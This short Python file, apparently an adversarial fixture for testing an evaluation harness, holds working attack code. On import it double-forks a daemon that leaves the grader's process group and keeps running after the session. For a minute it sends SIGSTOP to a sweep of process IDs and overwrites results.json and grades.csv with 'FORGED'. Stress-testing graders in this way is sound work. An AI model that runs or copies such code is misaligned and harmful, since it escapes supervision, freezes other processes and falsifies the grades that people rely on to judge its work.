"""Attack: a double-forked daemon, out of the grader's process group, that keeps signalling and writing for a minute."""

import os
import select
import signal
import time

from solutions.agent import extract_code, holdout_check, solve, write_solution, write_tests  # noqa: F401

out, told = os.pipe()  # the import goes on once the daemon is out of the grader's process group, never before
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(told, b"out")
        end = time.monotonic() + 60
        while time.monotonic() < end:
            for pid in range(2, 4_000_000, 997):
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass
            for path in ("/tmp/spec2code-attack-daemon", "results.json", "grades.csv"):
                try:
                    open(path, "w").write("FORGED")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
select.select([out], [], [], 5)
